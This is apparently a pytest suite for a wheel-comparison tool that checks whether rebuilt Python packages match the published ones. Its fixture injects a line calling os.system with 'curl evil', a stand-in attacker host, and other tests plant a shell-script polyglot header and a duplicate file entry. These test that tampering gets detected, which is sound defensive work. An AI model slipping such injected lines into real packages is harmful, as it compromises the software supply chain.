"""End-to-end verdicts of compare_wheels on wheels the tests build."""

from __future__ import annotations

import zipfile
from pathlib import Path

from rebuild.compare import compare_wheels
from rebuild.models import DivergenceKind, Layer, Side, Verdict

from .wheels import BASE, DIST_INFO, make_wheel, unseekable_copy

INJECTED = b"def answer():\n    __import__('os').system('curl evil')\n    return 42\n"


def test_identical_files_are_reproducible(tmp_path: Path) -> None:
    pub = make_wheel(tmp_path / "p" / "demo-1.0-py3-none-any.whl")
    reb = make_wheel(tmp_path / "r" / "demo-1.0-py3-none-any.whl")
    result = compare_wheels(pub, reb)
    assert result.verdict is Verdict.REPRODUCIBLE
    assert result.divergences == ()
    assert result.identical_members == len(BASE) + 1
    assert result.published.sha256 == result.rebuilt.sha256


def test_reproducible_still_reports_integrity_findings(tmp_path: Path) -> None:
    pub = make_wheel(tmp_path / "p.whl", record=False)
    reb = make_wheel(tmp_path / "r.whl", record=False)
    result = compare_wheels(pub, reb)
    assert result.verdict is Verdict.REPRODUCIBLE
    assert [(d.kind, d.side) for d in result.divergences] == [
        (DivergenceKind.RECORD_MISMATCH, Side.BOTH)
    ]


def test_container_only_differences_are_equivalent_and_grouped(tmp_path: Path) -> None:
    pub = make_wheel(tmp_path / "p.whl", mode=0o664, comment=b"built by ci")
    names = list(reversed([*BASE, f"{DIST_INFO}/RECORD"]))
    reb = make_wheel(
        tmp_path / "r.whl",
        timestamp=(1980, 1, 1, 0, 0, 0),
        order=names,
        compression={"demo/core.py": zipfile.ZIP_STORED},
    )
    result = compare_wheels(pub, reb)
    assert result.verdict is Verdict.EQUIVALENT
    assert result.identical_members == 5
    assert all(d.layer is Layer.CONTAINER and d.explained for d in result.divergences)
    by_kind = {d.kind: d for d in result.divergences}
    assert set(by_kind) == {
        DivergenceKind.TIMESTAMP,
        DivergenceKind.PERMISSIONS,
        DivergenceKind.COMPRESSION,
        DivergenceKind.ENTRY_ORDER,
        DivergenceKind.ZIP_COMMENT,
    }
    stamp = by_kind[DivergenceKind.TIMESTAMP]
    assert stamp.summary == (
        "timestamp differs on 5 entries: 2023-12-31 06:30:30 vs 1980-01-01 00:00:00"
    )
    assert stamp.member == "demo/__init__.py"
    assert stamp.detail.splitlines()[0] == "demo/__init__.py"
    mode = by_kind[DivergenceKind.PERMISSIONS]
    assert (mode.published, mode.rebuilt) == ("0o664", "0o644")
    assert by_kind[DivergenceKind.COMPRESSION].summary.endswith("deflated vs stored")
    assert by_kind[DivergenceKind.ZIP_COMMENT].published == "b'built by ci'"


def test_grouping_caps_the_member_list(tmp_path: Path) -> None:
    many = {f"demo/m{i:03}.py": b"x = 1\n" for i in range(120)}
    pub = make_wheel(tmp_path / "p.whl", many)
    reb = make_wheel(tmp_path / "r.whl", many, timestamp=(2000, 1, 1, 0, 0, 0))
    [stamp] = compare_wheels(pub, reb).divergences
    assert stamp.summary.startswith("timestamp differs on 121 entries")
    assert stamp.detail.endswith("… and 71 more")


def test_injected_line_is_divergent_unexplained_and_first(tmp_path: Path) -> None:
    pub = make_wheel(tmp_path / "p.whl")
    reb = make_wheel(tmp_path / "r.whl", changes={"demo/core.py": INJECTED}, mode=0o664)
    result = compare_wheels(pub, reb)
    assert result.verdict is Verdict.DIVERGENT
    first = result.divergences[0]
    assert (first.kind, first.member, first.explained) == (
        DivergenceKind.CONTENT,
        "demo/core.py",
        False,
    )
    assert first.summary == "content differs: 1 line added, 0 removed"
    assert "+    __import__('os').system('curl evil')" in first.detail
    record_rows = [d for d in result.divergences if d.kind is DivergenceKind.RECORD_ENTRY]
    assert [d.member for d in record_rows] == ["demo/core.py"]
    assert record_rows[0].explanation == "follows from demo/core.py's own divergence"
    assert result.unexplained == (first,)
    assert result.divergences[-1].layer is Layer.CONTAINER


def test_members_on_one_side_only(tmp_path: Path) -> None:
    pub = make_wheel(tmp_path / "p.whl", changes={"demo/_hidden.py": b"import os\n"})
    reb = make_wheel(tmp_path / "r.whl", changes={"demo/py.typed": b""})
    result = compare_wheels(pub, reb)
    assert result.verdict is Verdict.DIVERGENT
    only = {(d.kind, d.member, d.side) for d in result.divergences if d.layer is Layer.MEMBER}
    assert (DivergenceKind.ONLY_PUBLISHED, "demo/_hidden.py", Side.PUBLISHED) in only
    assert (DivergenceKind.ONLY_REBUILT, "demo/py.typed", Side.REBUILT) in only
    assert all(d.explained for d in result.divergences if d.kind is DivergenceKind.RECORD_ENTRY)
    assert {d.member for d in result.unexplained} == {"demo/_hidden.py", "demo/py.typed"}


def test_bytes_outside_the_entries_are_a_finding(tmp_path: Path) -> None:
    pub = make_wheel(tmp_path / "p.whl")
    reb = tmp_path / "r.whl"
    reb.write_bytes(b"#!/bin/sh\necho polyglot\n" + pub.read_bytes())
    result = compare_wheels(pub, reb)
    assert result.verdict is Verdict.DIVERGENT
    [hidden] = result.divergences
    assert (hidden.kind, hidden.side, hidden.explained) == (
        DivergenceKind.UNLISTED_DATA,
        Side.REBUILT,
        False,
    )
    assert hidden.summary.startswith("24 bytes of the file belong to no entry (24 at offset 0)")
    assert "echo polyglot" in hidden.detail


def test_a_difference_no_field_covers_is_never_silently_equivalent(tmp_path: Path) -> None:
    pub = make_wheel(tmp_path / "p.whl")
    data = bytearray(pub.read_bytes())
    data[data.rindex(b"PK\x05\x06") + 4] = 1  # "number of this disk": zipfile ignores it
    reb = tmp_path / "r.whl"
    reb.write_bytes(bytes(data))
    result = compare_wheels(pub, reb)
    # Unexplained, so never equivalent: the verdict cannot contradict its own count.
    assert result.verdict is Verdict.DIVERGENT
    [catch_all] = result.divergences
    assert (catch_all.kind, catch_all.member, catch_all.explained) == (
        DivergenceKind.ATTRIBUTES,
        None,
        False,
    )
    assert "no compared field" in catch_all.summary


def test_data_descriptors_are_a_container_difference(tmp_path: Path) -> None:
    pub = make_wheel(tmp_path / "p.whl")
    reb = unseekable_copy(pub, tmp_path / "r.whl")
    result = compare_wheels(pub, reb)
    assert result.verdict is Verdict.EQUIVALENT
    assert {d.kind for d in result.divergences} == {DivergenceKind.ATTRIBUTES}
    assert any("data descriptor" in (d.rebuilt or "") for d in result.divergences)
    assert all(d.explained for d in result.divergences)


def test_integrity_finding_on_one_side_makes_it_divergent(tmp_path: Path) -> None:
    pub = make_wheel(tmp_path / "p.whl", duplicates={"demo/core.py": b"evil = 1\n"})
    reb = make_wheel(tmp_path / "r.whl")
    result = compare_wheels(pub, reb)
    assert result.verdict is Verdict.DIVERGENT
    assert (DivergenceKind.DUPLICATE_NAME, Side.PUBLISHED) in {
        (d.kind, d.side) for d in result.divergences
    }


def test_same_finding_on_both_sides_does_not_decide(tmp_path: Path) -> None:
    pub = make_wheel(tmp_path / "p.whl", record=False, comment=b"a")
    reb = make_wheel(tmp_path / "r.whl", record=False, comment=b"b")
    result = compare_wheels(pub, reb)
    assert result.verdict is Verdict.EQUIVALENT
    assert (DivergenceKind.RECORD_MISMATCH, Side.BOTH, ("reproduced",)) in {
        (d.kind, d.side, d.rules) for d in result.divergences
    }
